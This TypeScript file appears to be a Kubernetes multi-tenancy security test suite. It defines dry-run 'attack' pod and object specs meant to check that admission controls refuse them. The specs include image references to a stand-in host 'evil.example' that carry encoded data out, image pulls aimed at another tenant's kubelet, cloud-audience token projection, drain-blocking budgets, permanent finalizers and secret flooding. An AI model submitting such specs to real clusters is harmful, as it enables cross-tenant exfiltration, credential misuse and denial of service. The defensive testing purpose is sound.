import { type Change, inContainer } from '../../../_change';
import { pod } from '../../tenant-repository/_shop';
import { accepted, asks, podObject } from '../_attempts';
import { type Attack, type Letter, refused, through } from '../_types';
import { inNamespace, type World } from '../_world';

const DRY = '?dryRun=All';

/** What the API server says decides; nothing is stored. */
function isAdmitted(way: Letter, name: string, title: string, control: string, change: Change): Attack {
  const attempt = (world: World) => asks(world, 'POST', `pods${DRY}`, podObject(name, pod(change)));
  return { name, way, title, controls: [control], attempt };
}

function isStored(name: string, title: string, control: string, path: string, object: object): Attack {
  const attempt = (world: World) => asks(world, 'POST', `${path}${DRY}`, { metadata: { name }, ...object });
  return { name, way: 'j', title, controls: [control], attempt };
}

function image(name: string, title: string, reference: string): Attack {
  return isAdmitted('e', name, title, 'admission-images', inContainer({ image: reference }));
}

/** Secrets that the settings allow. */
const SECRETS = 3;

/** What a pod, a budget or an object’s metadata can say. */
export const SPECS: readonly Attack[] = [
  image('image-elsewhere', 'has its node send data out in the name of an image', 'evil.example/c2vjcmv0:k-data'),
  image('image-of-a-node', 'has its node ask the node of the other tenant for an image', '172.16.28.21:10250/x:1'),
  isAdmitted('e', 'image-volume', 'mounts an image of any registry', 'admission-images', {
    volumes: [{ name: 'data', image: { reference: 'evil.example/data:1' } }],
  }),
  {
    name: 'image-anywhere',
    way: 'e',
    title: 'has no `registries` in its settings, and names an image of any registry',
    controls: [],
    remains:
      'where `registries` is not set, the node asks any registry that a pod names, from its own address: names and tags carry data out, layers carry data in, and the pod’s events tell what answered',
    attempt: async (world) => {
      const spec = pod((one) => {
        one.nodeSelector = { 'node-pool': 'client-b-pool' };
        one.tolerations[0].key = 'node-role.kubernetes.io/client-b';
        for (const variable of one.containers[0].env) variable.value = 'http://172.16.28.9:3128';
        one.containers[0].image = 'evil.example/c2vjcmv0:k-data';
      });
      const other = world.lab.api.as({ name: 'system:serviceaccount:flux-system:client-b' });
      const path = inNamespace(`pods${DRY}`, 'client-b-demo');
      return accepted(await other.request('POST', path, podObject('image-anywhere', spec)));
    },
  },
  isAdmitted('i', 'token-elsewhere', 'takes a token by which a cloud would know it', 'admission-tokens', (spec) => {
    const sources = [{ serviceAccountToken: { path: 't', audience: 'sts.amazonaws.com' } }];
    spec.volumes = [{ name: 't', projected: { sources } }];
  }),
  isAdmitted('i', 'deprecated-account', 'names an account with rights by the old field', 'admission-pods', {
    serviceAccount: 'client-a',
  }),
  isStored('budget', 'lets none of its pods go', 'admission-drain', 'policy/v1:poddisruptionbudgets', {
    spec: { selector: {}, maxUnavailable: 0 },
  }),
  isAdmitted('j', 'slow-end', 'has a pod that takes 68 years to end', 'admission-drain', {
    terminationGracePeriodSeconds: 2_147_483_647,
  }),
  isStored('never-gone', 'keeps an object for ever by a finalizer', 'admission-finalizers', 'configmaps', {
    metadata: { name: 'never-gone', finalizers: ['example.com/never'] },
  }),
  isStored('address', 'takes the address that the platform will need', 'admission-services', 'services', {
    spec: { clusterIP: '10.32.0.54', ports: [{ port: 53 }] },
  }),
  {
    name: 'many-secrets',
    way: 'j',
    title: 'fills the API server with objects',
    controls: ['quota'],
    exclusive: true,
    attempt: async (world) => {
      for (let n = 0; n <= SECRETS; n += 1) {
        const object = { apiVersion: 'v1', kind: 'Secret', metadata: { name: `many-secrets-${n}` } };
        const answer = await world.create('secrets', object);
        if (answer.status >= 300) return refused(`after ${n}: ${accepted(answer).words}`);
      }
      return through(`${SECRETS + 1} Secrets were accepted`);
    },
  },
];
